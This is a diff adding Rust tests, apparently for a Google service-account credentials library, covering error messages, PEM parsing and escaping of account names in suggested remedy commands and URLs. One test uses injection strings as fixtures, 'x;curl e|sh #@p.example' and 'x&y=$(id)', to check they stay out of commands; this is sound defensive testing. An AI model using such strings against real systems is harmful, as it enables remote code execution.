@@ -103,6 +103,8 @@ async fn a_pem_and_an_address_are_enough() {
     }
     let (header, _) = claims(&emulator.requests()[0]);
     assert_eq!(header, json!({"alg": "RS256", "typ": "JWT"}));
+    let error = Credentials::from_pem("no key", ROBOT, &options).unwrap_err();
+    assert!(!error.to_string().contains("the field"), "{error}");
     let error = Credentials::from_pem(account.pkcs8_pem(), " ", &options).unwrap_err();
     assert!(error.to_string().contains("address"));
 }
@@ -251,6 +253,32 @@ async fn a_refusal_names_the_account_and_the_key_and_says_what_to_do() {
 }
 
 #[tokio::test]
+async fn a_name_that_a_shell_would_run_does_not_get_into_a_command() {
+    let (emulator, account, options) = emulator().await;
+    let name = "x;curl e|sh #@p.example";
+    let mut file: Value = serde_json::from_str(&account.json_key()).unwrap();
+    file["client_email"] = json!(name);
+    file["project_id"] = json!("x&y=$(id)");
+    for description in [
+        "Invalid JWT Signature.",
+        "Invalid grant: account not found",
+        "The OAuth client was disabled.",
+        "Something else.",
+    ] {
+        let refusal = json!({"error": "invalid_grant", "error_description": description});
+        emulator.fault("oauth2.googleapis.com", Fault::status(400).json(&refusal));
+        let credentials = Credentials::from_json(&file.to_string(), &options).unwrap();
+        let error = credentials.token().await.unwrap_err();
+        assert_eq!(error.principal(), Some(name));
+        let remedy = error.remedy().unwrap();
+        let command = remedy.command.as_deref().unwrap_or("ACCOUNT");
+        assert!(command.ends_with("ACCOUNT"), "{command}");
+        let url = remedy.url.as_deref().unwrap();
+        assert!(url.ends_with("?project=x%26y%3D%24%28id%29"), "{url}");
+    }
+}
+
+#[tokio::test]
 async fn a_server_in_trouble_is_no_refusal() {
     let (emulator, account, options) = emulator().await;
     emulator.fault("oauth2.googleapis.com", Fault::status(503).times(10));
@@ -334,4 +362,28 @@ async fn the_key_is_never_shown() {
     let body = account.pkcs8_pem().lines().nth(3).unwrap();
     assert!(!shown.contains(body), "{shown}");
     assert!(shown.contains("2048 bits"));
+}
+
+proptest::proptest! {
+    #![proptest_config(proptest::test_runner::Config::with_cases(16))]
+
+    #[test]
+    fn a_pem_is_read_however_its_lines_are_broken(
+        width in 1_usize..200,
+        end in proptest::sample::select(vec!["\n", "\r\n", "\\n"]),
+    ) {
+        let pem = RsaKey::shared().pkcs8_pem();
+        let lines: Vec<&str> = pem.trim().lines().collect();
+        let [begin, body @ .., last] = lines.as_slice() else {
+            panic!("no PEM");
+        };
+        let body = body.concat();
+        let body: Vec<&str> = body
+            .as_bytes()
+            .chunks(width)
+            .map(|line| std::str::from_utf8(line).unwrap())
+            .collect();
+        let pem = [begin, body.join(end).as_str(), last].join(end);
+        ServiceAccountKey::from_pem(&pem, ROBOT).unwrap();
+    }
 }
